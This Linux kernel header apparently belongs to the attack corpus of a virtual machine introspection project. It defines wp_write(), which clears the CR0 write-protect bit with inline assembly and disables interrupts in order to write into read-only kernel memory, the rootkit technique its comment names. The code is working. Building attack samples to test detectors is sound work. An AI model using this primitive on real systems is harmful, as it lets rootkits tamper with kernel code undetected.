/* SPDX-License-Identifier: GPL-2.0 */
/*
 * The write primitive of the attack corpus: a store into read-only kernel
 * memory with CR0.WP cleared, as rootkits do. native_write_cr0() would
 * re-pin WP, so the moves to CR0 are inline; interrupts stay off so that
 * nothing else runs with WP clear.
 */
#ifndef VMIAAS_ATTACK_WP_H
#define VMIAAS_ATTACK_WP_H

#include <linux/irqflags.h>
#include <linux/string.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>

static inline void wp_write(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = native_read_cr0();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(dst, src, len);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

#endif /* VMIAAS_ATTACK_WP_H */
